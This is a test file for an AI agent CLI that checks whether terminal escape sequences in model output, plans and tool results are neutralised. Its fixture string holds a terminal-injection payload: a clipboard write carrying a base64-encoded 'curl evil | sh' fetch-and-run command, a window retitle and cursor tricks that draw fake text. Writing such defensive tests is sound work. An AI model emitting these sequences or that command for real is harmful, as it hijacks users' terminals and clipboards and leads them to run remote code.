import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { planReply, startModelServer, type ScriptedModelServer } from '../../kit/scripted-model-server';
import { spawnArchon } from '../../support/archon-process';
import { useTempDirs } from '../../support/temp-dir';

const tempDir = useTempDirs();
let server: ScriptedModelServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

/** What a hostile model or file would have a terminal do: write the clipboard (OSC 52), retitle the window, erase the line and draw over it. */
const HOSTILE = 'safe\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\r\x1b[2K\x1b[1Afake\x9b31m';
/** A control character other than a newline or tab (C0, DEL, C1): what a terminal would act on. */
const controls = (text: string) => [...text].map((char) => char.codePointAt(0) ?? 0).filter((code) => (code < 0x20 && code !== 0x0a && code !== 0x09) || (code >= 0x7f && code <= 0x9f));

describe('archon run prints model and tool text as text', () => {
  it('shows escape sequences in the answer, the plan and a tool result visibly, never raw', async () => {
    const workspace = tempDir();
    writeFileSync(join(workspace, 'notes.txt'), HOSTILE);
    server = await startModelServer({
      reply: (request) => {
        if (request.purpose === 'plan') return planReply([{ id: 'look', description: `read the notes ${HOSTILE}`, tool: 'read_file', args: { path: 'notes.txt' } }]);
        return { content: `The notes say ${HOSTILE}\nand end there.` };
      },
    });
    const result = await spawnArchon(['run', 'read the notes', '--model-url', server.url, '--data-dir', tempDir(), '--workspace', workspace, '--approve', 'auto'], { OPENAI_API_KEY: '' }).done;
    expect(result.status, result.stderr).toBe(0);
    expect(controls(result.stdout)).toEqual([]);
    expect(controls(result.stderr)).toEqual([]);
    expect(result.stdout).toBe('The notes say safe\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]0;pwned\\x07\\x0d\\x1b[2K\\x1b[1Afake\\x9b31m\nand end there.\n');
    expect(result.stderr).toContain('read the notes safe\\x1b]52;c;');
    expect(result.stderr).toContain('read_file [success] safe\\x1b]52;c;');
  });
});
